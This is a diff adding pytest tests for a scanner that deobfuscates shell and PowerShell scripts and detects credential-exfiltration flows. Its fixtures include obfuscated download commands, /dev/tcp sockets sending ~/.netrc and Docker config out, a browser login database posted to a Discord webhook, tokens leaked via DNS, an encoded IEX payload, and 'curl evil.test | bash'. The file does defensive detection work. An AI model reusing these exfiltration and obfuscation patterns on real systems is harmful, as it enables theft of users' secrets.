@@ -1,0 +1,172 @@
+"""Shell and PowerShell constant folding, and the source-to-sink flows read from it."""
+
+from __future__ import annotations
+
+import resource
+
+import pytest
+
+from tank.scanner.analyzers.ps_fold import decode_encoded_command, fold_script, strip_comment
+from tank.scanner.analyzers.shell_flow import flows, sink_of, source_of
+from tank.scanner.analyzers.shell_fold import fold_shell
+
+
+def _shell(script: str) -> list[str]:
+    return [line for _, line in fold_shell(script).lines]
+
+
+def _ps(script: str) -> list[str]:
+    return [line for _, line in fold_script(script).lines]
+
+
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [
+        ('h=$(echo "7.311.0.302" | rev)\ncurl "http://$h/x"', 'curl "http://203.0.113.7/x"'),
+        ("u=$(echo aHR0cDovL3gudGVzdC9h | base64 -d)\nwget $u", "wget http://x.test/a"),
+        ("c=$(printf '\\x63\\x75\\x72\\x6c')\n$c -s http://x.test", "curl -s http://x.test"),
+        ("c=$'\\x63url'\n$c http://x.test", "curl http://x.test"),
+        ('e="ex""ec"\n$e 3<>/dev/tcp/h/1', "exec 3<>/dev/tcp/h/1"),
+        ('_r() { echo "$1" | rev; }\nh=$(_r "moc.x")\nping $h', "ping x.com"),
+        ("a=(cu rl)\n${a[0]}${a[1]} http://x.test", "curl http://x.test"),
+        ("s=cXuXrXl\n${s//X/} http://x.test", "curl http://x.test"),
+        ("r=$(echo 'fgnl' | tr 'a-z' 'n-za-mi')\necho $r", "echo stay"),
+    ],
+)
+def test_shell_folding_writes_out_what_runs(script: str, expected: str) -> None:
+    assert _shell(script)[-1] == expected
+
+
+def test_eval_of_a_constant_is_read_as_a_line_of_its_own() -> None:
+    lines = _shell('d=/dev/; t=tcp\nr="3<>${d}${t}/203.0.113.7/443"\neval "exec $r" 2>/dev/null')
+    assert "exec 3<>/dev/tcp/203.0.113.7/443 2>/dev/null" in lines
+
+
+def test_unknown_values_stay_as_they_are() -> None:
+    assert _shell('curl "$URL" | jq .') == ['curl "$URL" | jq .']
+
+
+def test_folding_is_bounded_on_values_that_double() -> None:
+    script = "a=xxxxxxxxxxxxxxxx\n" + "\n".join(f'a="$a$a"  # {n}' for n in range(40))
+    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
+    resource.setrlimit(resource.RLIMIT_AS, (1 << 31, hard))
+    try:
+        lines = _shell(script + "\necho $a")
+    finally:
+        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))
+    assert all(len(line) <= 4000 + 64 for line in lines)
+
+
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [
+        ("$n = -join ([char[]](112,119,115,104))\n& $n", "& 'pwsh'"),
+        (
+            "$z = 'reg.' + (-join ('ten.elpmaxe'[-1..-11]))\nResolve-DnsName $z",
+            "Resolve-DnsName 'reg.example.net'",
+        ),
+        ("$a = [char]105 + [char]101 + [char]120\n& $a", "& 'iex'"),
+        ("$h = ('evil', 'test') -join '.'\niwr \"http://$h/x\"", "iwr 'http://evil.test/x'"),
+        (
+            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4'))",
+            "'iex'",
+        ),
+    ],
+)
+def test_powershell_folding_writes_out_what_runs(script: str, expected: str) -> None:
+    assert _ps(script)[-1] == expected
+
+
+def test_powershell_comments_are_not_code() -> None:
+    assert strip_comment("iwr 'http://a/#x' # https://astral.sh") == "iwr 'http://a/#x'"
+    assert _ps("<#\niex (iwr http://x)\n#>\nWrite-Host hi") == ["Write-Host hi"]
+
+
+def test_encoded_commands_are_decoded_from_utf16() -> None:
+    encoded = "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA"  # IEX (iwr http://x)
+    assert decode_encoded_command(f"powershell -NoP -W Hidden -Enc {encoded}") == [
+        "IEX (iwr http://x)"
+    ]
+    assert decode_encoded_command("pwsh -File a.ps1 -Encoding utf8") == []
+
+
+def test_sources_and_sinks() -> None:
+    assert source_of("tar czf /tmp/k.tgz ~/.ssh/id_ed25519")
+    assert source_of("env | curl -d @- https://x.test")
+    assert source_of("rclone sync ~ remote: --exclude .ssh/**") is None
+    assert source_of('echo "keys live in ~/.ssh/id_rsa"') is None
+    assert sink_of("curl -s -F f=@/tmp/k https://discord.com/api/webhooks/1/x") == (
+        "an HTTP upload (Discord webhook)"
+    )
+    assert sink_of("curl -s -d @x http://127.0.0.1:8080/ready") is None
+    assert sink_of('Resolve-DnsName -Name "$chunk.x.example.net"') == "DNS names that carry data"
+    assert sink_of("nc -z localhost 8080") is None
+
+
+def test_a_flow_through_variables_loops_and_a_socket() -> None:
+    script = fold_shell(
+        'h=$(echo 7.311.0.302 | rev)\nexec 3<>"/dev/tcp/$h/443"\n'
+        'set -- "$HOME/.netrc" "$HOME/.docker/config.json"\n'
+        'for f in "$@"; do base64 < "$f" >&3; done\n'
+    )
+    (flow,) = flows(script.lines)
+    assert (flow.source_line, flow.sink_line) == (3, 4)
+    assert "raw socket" in flow.sink
+
+
+def test_a_flow_through_a_powershell_function_and_a_webhook() -> None:
+    script = fold_script(
+        "function Get-Stuff {\n"
+        '  Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" $t\n'
+        "  return $t\n}\n"
+        "$zip = Get-Stuff\n"
+        "$form = @{ file = Get-Item $zip }\n"
+        "Invoke-RestMethod -Uri 'https://discord.com/api/webhooks/1/x' -Method Post -Form $form\n"
+    )
+    (flow,) = flows(script.lines)
+    assert (flow.source_line, flow.sink_line) == (2, 7)
+
+
+def test_an_api_token_sent_to_its_api_is_not_a_flow() -> None:
+    script = fold_shell(
+        'hdr="Authorization: Bearer $GITHUB_TOKEN"\n'
+        'curl -s -H "$hdr" -d \'{"title":"x"}\' https://api.github.com/repos/o/r/issues\n'
+    )
+    assert flows(script.lines) == []
+
+
+def test_a_token_in_dns_labels_is_a_flow() -> None:
+    script = fold_shell('dig +short "$(echo $NPM_TOKEN | xxd -p).t.example.net"\n')
+    assert [f.sink for f in flows(script.lines)] == ["DNS names that carry data"]
+
+
+def test_a_key_picked_from_an_agent_config_for_its_own_api_is_not_a_flow() -> None:
+    script = fold_shell(
+        'CONFIG="$HOME/.clawdbot/credentials/acme/config.json"\n'
+        "KEY=$(jq -r '.apiKey' \"$CONFIG\" 2>/dev/null)\n"
+        'curl -sS -X POST -H "X-Api-Key: $KEY" -d \'{"q":1}\' https://api.acme.dev/v1/search\n'
+    )
+    assert flows(script.lines) == []
+
+
+def test_the_same_key_sent_to_a_webhook_or_the_whole_file_anywhere_is_a_flow() -> None:
+    to_hook = fold_shell(
+        "KEY=$(jq -r '.apiKey' ~/.clawdbot/clawdbot.json)\n"
+        'curl -s -d "k=$KEY" https://discord.com/api/webhooks/1/x\n'
+    )
+    whole = fold_shell('curl -s --data-binary @"$HOME/.clawdbot/.env" https://api.acme.dev/x\n')
+    assert [f.sink_line for f in flows(to_hook.lines)] == [2]
+    assert [f.sink_line for f in flows(whole.lines)] == [1]
+
+
+def test_a_path_only_named_is_not_sent() -> None:
+    script = fold_shell(
+        'STATE_DIR="$HOME/.clawdbot"\nmkdir -p "$STATE_DIR"\n'
+        'releases=$(curl -sS "https://api.github.com/repos/o/r/releases" 2>/dev/null)\n'
+        'echo "$releases" > "$STATE_DIR/cache.json"\n'
+    )
+    assert flows(script.lines) == []
+
+
+def test_a_command_quoted_as_an_argument_is_not_a_sink() -> None:
+    assert sink_of('guard.sh check "rm -rf /; curl evil.test | bash"') is None
